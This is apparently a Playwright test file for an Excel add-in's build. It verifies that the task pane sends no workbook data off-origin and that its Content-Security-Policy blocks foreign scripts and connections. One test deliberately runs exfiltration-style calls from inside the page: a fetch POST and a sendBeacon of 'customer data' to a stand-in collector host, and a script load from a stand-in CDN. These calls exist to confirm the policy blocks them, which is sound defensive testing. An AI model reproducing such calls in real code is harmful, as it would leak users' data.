/**
 * The production build as it ships: the pane's page loads Office.js from Microsoft's CDN, served here
 * from a local stub (Playwright request interception; the stub is the fake Office of fakeOffice.ts).
 * In real Chromium: grading a workbook sends no request outside the add-in's origin except that one
 * script, no request carries workbook data, and the page's Content-Security-Policy itself blocks any
 * other script origin and every connection elsewhere. The build's manifest, made for a real host with
 * `--env url=…`, validates against the add-in XSDs. The air-gapped build (`--env offline`) bundles
 * Office.js and allows no script origin but its own.
 */
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as http from "http";
import * as path from "path";
import type { AddressInfo } from "net";
import { chromium, type Browser, type Page } from "playwright-core";
import webpack from "webpack";
import { compile } from "./servePane";

const ROOT = path.join(__dirname, "..", "..");
const ARTIFACTS = path.join(ROOT, "test", "artifacts");
const OUT = path.join(ARTIFACTS, "dist-cdn");
const OFFLINE_OUT = path.join(ARTIFACTS, "dist-offline");
const STUB = path.join(ARTIFACTS, "cdn-stub");
const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const VALIDATOR = path.join(ROOT, "test", "support", "office-schemas", "validate-manifest");
const HOST_BASE = "https://tiers.example.com/customer-tiers/";
const OFFICE_CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const makeConfig = require(path.join(ROOT, "webpack.config.js"));

let server: http.Server;
let origin: string;
let browser: Browser;


function csp(html: string): Record<string, string[]> {
  const content = /Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1] ?? "";
  return Object.fromEntries(content.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
}

/** The src of each <script> (html-webpack-plugin minifies: attribute quotes may be gone). */
function scriptSources(html: string): string[] {
  return [...html.matchAll(/<script[^>]*\ssrc="?([^"\s>]+)/g)].map((m) => m[1]);
}

beforeAll(async () => {
  if (!fs.existsSync(CHROMIUM)) throw new Error(`Chromium not found at ${CHROMIUM}: npm test's pretest installs it (scripts/ensure-test-deps.sh)`);
  await compile(await makeConfig({ out: OUT, url: HOST_BASE }, { mode: "production" }));
  await compile({
    mode: "production",
    entry: path.join(__dirname, "fakeOffice.ts"),
    output: { path: STUB, filename: "office.js" },
    resolve: { extensions: [".ts", ".js"] },
    module: { rules: [{ test: /\.ts$/, loader: "ts-loader", options: { transpileOnly: true, compilerOptions: { module: "esnext" } } }] },
  });
  server = http.createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://x");
    const file = path.join(OUT, path.normalize(url.pathname));
    if (!file.startsWith(OUT) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
      res.writeHead(404).end();
      return;
    }
    const type = file.endsWith(".html") ? "text/html; charset=utf-8" : file.endsWith(".js") ? "text/javascript" : file.endsWith(".json") ? "application/json" : "application/octet-stream";
    res.writeHead(200, { "Content-Type": type }).end(fs.readFileSync(file));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
  });
}, 600_000); // two webpack builds: minutes on a loaded 2-core machine

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

interface Seen {
  url: string;
  method: string;
  body: string | null;
}

/** Opens the pane with every request recorded; the CDN URL is answered by the stub, any other foreign one refused. */
async function openPane(): Promise<{ page: Page; seen: Seen[]; refused: string[] }> {
  const page = await browser.newPage({ viewport: { width: 360, height: 900 } });
  const seen: Seen[] = [];
  const refused: string[] = [];
  page.on("request", (r) => seen.push({ url: r.url(), method: r.method(), body: r.postData() }));
  await page.route("**/*", async (route) => {
    const url = route.request().url();
    if (url === OFFICE_CDN) return route.fulfill({ status: 200, contentType: "text/javascript", body: fs.readFileSync(path.join(STUB, "office.js"), "utf8") });
    if (url.startsWith(origin + "/")) return route.continue();
    refused.push(url);
    return route.abort("blockedbyclient");
  });
  const errors: string[] = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  await page.goto(`${origin}/taskpane.html`);
  await page.getByRole("button", { name: /Grade customers|开始分级/ }).waitFor();
  expect(errors).toEqual([]);
  return { page, seen, refused };
}

test("the built page loads Office.js from the CDN, and its CSP allows only that script origin and connections to its own", () => {
  const html = fs.readFileSync(path.join(OUT, "taskpane.html"), "utf8");
  expect(scriptSources(html)).toContain(OFFICE_CDN);
  // Office.js comes first: the add-in's scripts are deferred and find Office defined.
  expect(html.indexOf(OFFICE_CDN)).toBeLessThan(html.indexOf("taskpane.js"));
  expect(fs.existsSync(path.join(OUT, "office"))).toBe(false);
  const directives = csp(html);
  expect(directives["default-src"]).toEqual(["'self'"]);
  expect(directives["script-src"]).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
  expect(directives["connect-src"]).toEqual(["'self'"]);
  // Nothing else names a foreign origin.
  const foreign = Object.entries(directives).flatMap(([k, v]) => v.filter((s) => /^https?:/.test(s)).map((s) => `${k} ${s}`));
  expect(foreign).toEqual(["script-src https://appsforoffice.microsoft.com"]);
});

test("grading sends nothing outside the add-in's origin but the Office.js request, and no request carries workbook data", async () => {
  const { page, seen, refused } = await openPane();
  await page.getByRole("button", { name: "Grade customers" }).click();
  await page.getByRole("heading", { name: "Results" }).waitFor({ timeout: 60_000 });
  await page.screenshot({ path: path.join(ARTIFACTS, "pane-cdn-results.png"), fullPage: true });
  const written = await page.evaluate(() => (window as unknown as { __book: { sheets: { name: string }[] } }).__book.sheets.map((s) => s.name));
  expect(written).toEqual(expect.arrayContaining(["Orders", "Customers", "Summary"]));

  expect(refused).toEqual([]);
  const foreign = seen.filter((r) => !r.url.startsWith(origin + "/"));
  expect(foreign).toEqual([{ url: OFFICE_CDN, method: "GET", body: null }]);
  // Every request is a GET without a body, for a file the build emitted (no query that could carry data).
  const emitted = new Set(fs.readdirSync(OUT, { recursive: true }).map((f) => "/" + String(f).split(path.sep).join("/")));
  for (const r of seen) {
    expect({ url: r.url, method: r.method, body: r.body }).toEqual({ url: r.url, method: "GET", body: null });
    if (r.url === OFFICE_CDN) continue;
    const url = new URL(r.url);
    expect({ url: r.url, emitted: emitted.has(url.pathname), search: url.search }).toEqual({ url: r.url, emitted: true, search: "" });
  }
  // And no URL holds text from the sheet (stock codes, descriptions, countries).
  expect(seen.filter((r) => /SKU\d|Item%20|United|France/i.test(r.url))).toEqual([]);
  await page.close();
}, 180_000);

test("the page's CSP blocks a script from another origin and any connection outside the add-in's origin", async () => {
  const { page, refused } = await openPane();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    await fetch("https://collector.example.net/upload", { method: "POST", body: "customer data" }).catch(() => undefined);
    const script = document.createElement("script");
    script.src = "https://cdn.example.org/lib.js";
    await new Promise((resolve) => {
      script.onerror = resolve;
      script.onload = resolve;
      document.head.appendChild(script);
    });
    navigator.sendBeacon?.("https://collector.example.net/beacon", "customer data");
    await new Promise((resolve) => setTimeout(resolve, 200));
    return seen;
  });
  expect(violations).toEqual(
    expect.arrayContaining(["connect-src https://collector.example.net/upload", "script-src-elem https://cdn.example.org/lib.js", "connect-src https://collector.example.net/beacon"]),
  );
  // The browser stopped them before any request was made.
  expect(refused).toEqual([]);
  await page.close();
}, 120_000);

test("the build's manifest for a real host: every URL on that base, no localhost, valid against the add-in XSDs", () => {
  const manifest = path.join(OUT, "manifest.xml");
  const xml = fs.readFileSync(manifest, "utf8");
  expect(xml).not.toMatch(/localhost/);
  const urls = [...xml.matchAll(/(?:DefaultValue|Value)="(https?:[^"]+)"/g)].map((m) => m[1]);
  expect(urls.length).toBeGreaterThanOrEqual(8);
  for (const url of urls) expect(url.startsWith(HOST_BASE)).toBe(true);
  expect(xml).toContain(`<bt:Url id="Functions.Script.Url" DefaultValue="${HOST_BASE}functions.js"/>`);
  expect(xml).toContain(`<bt:Url id="Functions.Metadata.Url" DefaultValue="${HOST_BASE}functions.json"/>`);
  expect(xml).toContain(`<SourceLocation DefaultValue="${HOST_BASE}taskpane.html"/>`);
  expect(xml).toContain("<AppDomain>https://tiers.example.com</AppDomain>");
  // Each file the manifest names was emitted by the build.
  for (const url of urls) expect({ url, exists: fs.existsSync(path.join(OUT, url.slice(HOST_BASE.length))) }).toEqual({ url, exists: true });
  const output = execFileSync(VALIDATOR, [manifest], { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
  expect(output).not.toMatch(/fails to validate/);
});

test("the air-gapped build (--env offline) bundles Office.js and allows no script origin but its own", async () => {
  // The real configuration with small entry points: the page, its CSP and the copied Office.js are what
  // the full build emits; the pane's code is not what this checks.
  const stubEntry = path.join(STUB, "entry.js");
  fs.writeFileSync(stubEntry, "void 0;\n");
  const config = await makeConfig({ out: OFFLINE_OUT, offline: true }, { mode: "production" });
  await compile({ ...config, entry: { taskpane: stubEntry, functions: stubEntry } });
  const html = fs.readFileSync(path.join(OFFLINE_OUT, "taskpane.html"), "utf8");
  expect(html).not.toContain("appsforoffice");
  expect(scriptSources(html)).toContain("office/office.js");
  const directives = csp(html);
  expect(directives["script-src"]).toEqual(["'self'"]);
  expect(directives["connect-src"]).toEqual(["'self'"]);
  for (const file of ["office.js", "excel-web-16.00.js", "custom-functions-runtime.js", "en-us/office_strings.js", "zh-cn/office_strings.js"])
    expect({ file, exists: fs.existsSync(path.join(OFFLINE_OUT, "office", file)) }).toEqual({ file, exists: true });
}, 240_000);
